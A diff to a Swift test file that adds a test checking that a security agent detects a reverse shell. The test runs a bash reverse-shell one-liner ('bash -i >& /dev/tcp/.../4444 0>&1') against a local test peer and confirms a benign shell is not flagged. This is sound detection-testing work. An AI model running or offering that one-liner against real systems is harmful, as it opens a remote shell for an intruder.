@@ -24,4 +24,22 @@ final class PipelineDetectionTests: XCTestCase {
             XCTAssertFalse(all.contains { $0.parent["pid"] as? Int == Int(benign.pid) }, "a pipe without a download tool and a shell is not reported")
         }
     }
+
+    func testShellWithSocketStdioIsAReverseShell() throws {
+        try KernelTest.require(.tracepoint)
+        let peer = try NetnsPeer(subnet: 35)
+        defer { peer.remove() }
+        try peer.listen(port: 4444)
+        let agent = try AgentHarness()
+        // the outer bash connects and starts `bash -i` with the socket as stdin and stdout
+        let attack = try KernelTest.run("/usr/bin/bash", ["-c", "timeout 5 bash -i >& /dev/tcp/\(peer.peerAddress)/4444 0>&1; true"])
+        let benign = try KernelTest.run("/usr/bin/bash", ["-c", "bash -c true < /dev/null; true"])
+        let events = try agent.waitForEvents("process_reverse_shell") { !$0.isEmpty }
+        let hit = try XCTUnwrap(events.first, "bash -i on a socket is reported (\(attack.stderr))")
+        XCTAssertEqual(hit.process["binary"] as? String, "/usr/bin/bash")
+        XCTAssertEqual(hit.body["detection"] as? String, "shell-stdio-socket")
+        XCTAssertTrue((hit.process["arguments"] as? String ?? "").contains("-i"))
+        usleep(300_000)
+        XCTAssertFalse(try agent.events().contains { $0.kind == "process_reverse_shell" && $0.parent["pid"] as? Int == Int(benign.pid) })
+    }
 }
